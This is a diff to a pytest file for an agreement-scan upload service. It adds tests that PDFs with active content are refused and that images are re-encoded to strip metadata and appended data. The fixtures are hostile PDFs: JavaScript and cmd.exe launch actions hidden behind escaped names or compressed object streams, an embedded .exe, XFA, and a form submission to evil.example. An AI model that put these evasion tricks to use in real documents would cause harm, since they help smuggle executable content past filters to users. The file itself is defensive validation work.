@@ -69,7 +69,7 @@ def test_images_are_accepted(client, db, login_as, agreement, kind, name):
     (b"%PDF-1.7\n1 0 obj\n", "cut.pdf", "不完整或已损坏"),
     (b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "poly.pdf", "网页或压缩包"),
     (b"%PDF-1.4\n1 0 obj <</S /JavaScript /JS (app.alert(1))>>\n%%EOF\n", "js.pdf",
-     "包含脚本或附件"),
+     "无法完整读取"),  # no cross-reference: what a reader would make of it is unknown
     (b"\xff\xd8\xff\xe0 broken jpeg", "x.jpg", "不完整或已损坏"),
     (b"", "empty.pdf", "文件是空的"),
 ])
@@ -182,3 +182,98 @@ def test_the_page_offers_the_upload_exactly_when_the_service_takes_it(client, db
     assert offered(party) is False
     upload(client, agreement, image("PNG"), "x.png")
     assert scans(db) == 0
+
+
+def objstm_pdf(action: bytes) -> bytes:
+    """A PDF 1.5 whose OpenAction (object 4) sits compressed inside an object stream, as
+    PDF writers store objects today: invisible to a search of the raw bytes."""
+    import zlib
+
+    out = io.BytesIO()
+    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+
+    def obj(number: int, body: bytes) -> None:
+        offsets[number] = out.tell()
+        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
+
+    obj(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
+    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
+    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
+    header = b"4 0 "
+    packed = zlib.compress(header + action)
+    obj(5, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (len(header), len(packed)) + packed + b"\nendstream")
+    xref_at = out.tell()
+    rows = [(0, 0, 65535), *((1, offsets[n], 0) for n in (1, 2, 3)), (2, 5, 0),
+            (1, offsets[5], 0), (1, xref_at, 0)]
+    table = zlib.compress(b"".join(bytes([kind]) + field.to_bytes(4, "big")
+                                   + extra.to_bytes(2, "big") for kind, field, extra in rows))
+    out.write(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
+              b"/Length %d >>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n")
+    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_at)
+    return out.getvalue()
+
+
+def plain_pdf(catalog_extra: bytes = b"", *extra_objects: bytes) -> bytes:
+    """A well-formed one-page PDF (cross-reference table and all); `extra_objects` are
+    the bodies of objects 4, 5, …"""
+    bodies = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
+              b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>", *extra_objects]
+    out = io.BytesIO()
+    out.write(b"%PDF-1.4\n")
+    offsets = []
+    for number, body in enumerate(bodies, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
+    xref_at = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
+    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
+    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
+              % (len(bodies) + 1, xref_at))
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("data", [
+    plain_pdf(b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),  # escaped name
+    plain_pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
+    plain_pdf(b"/Names << /EmbeddedFiles 4 0 R >>",
+              b"<< /Names [(a.exe) << /Type /Filespec /EF << /F 5 0 R >> >>] >>",
+              b"<< /Length 1 >>\nstream\nx\nendstream"),
+    plain_pdf(b"/AcroForm << /XFA 4 0 R >>", b"<< /Length 1 >>\nstream\nx\nendstream"),
+    plain_pdf(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
+    objstm_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),  # compressed, in a stream
+], ids=["escaped-javascript", "escaped-launch", "embedded-file", "xfa", "submit-form",
+        "object-stream"])
+def test_active_pdf_content_is_refused_however_it_is_written(client, db, login_as,
+                                                              agreement, data):
+    """Issue 14: a search of the raw bytes let escaped names and object streams through."""
+    login_as(agreement.proposal.partner.members[0])
+    assert "包含脚本或附件" in upload(client, agreement, data, "scan.pdf").get_data(
+        as_text=True)
+    assert scans(db) == 0
+
+
+def test_a_plain_pdf_with_a_link_and_a_page_opening_is_accepted(client, db, login_as,
+                                                                agreement):
+    login_as(agreement.proposal.partner.members[0])
+    upload(client, agreement, plain_pdf(b"/OpenAction [3 0 R /Fit]"), "scan.pdf")
+    assert scans(db) == 1
+    upload(client, agreement, objstm_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>"), "scan2.pdf")
+    assert scans(db) == 2
+
+
+def test_images_are_drawn_afresh_so_nothing_rides_along(client, db, login_as, agreement):
+    """Issue 14: metadata and appended files survived in stored images."""
+    out = io.BytesIO()
+    exif = Image.Exif()
+    exif[0x010E] = "GPS and the author's name"
+    Image.new("RGB", (60, 40), "white").save(out, "JPEG", exif=exif.tobytes())
+    carrier = out.getvalue() + b"%PDF-1.4 appended document"
+    login_as(agreement.proposal.partner.members[0])
+    upload(client, agreement, carrier, "scan.jpg")
+    stored = (storage_dir() / db.scalar(select(SignedScan.stored_name))).read_bytes()
+    assert b"appended document" not in stored and b"GPS" not in stored
+    with Image.open(io.BytesIO(stored)) as image:
+        assert image.size == (60, 40) and not image.getexif()
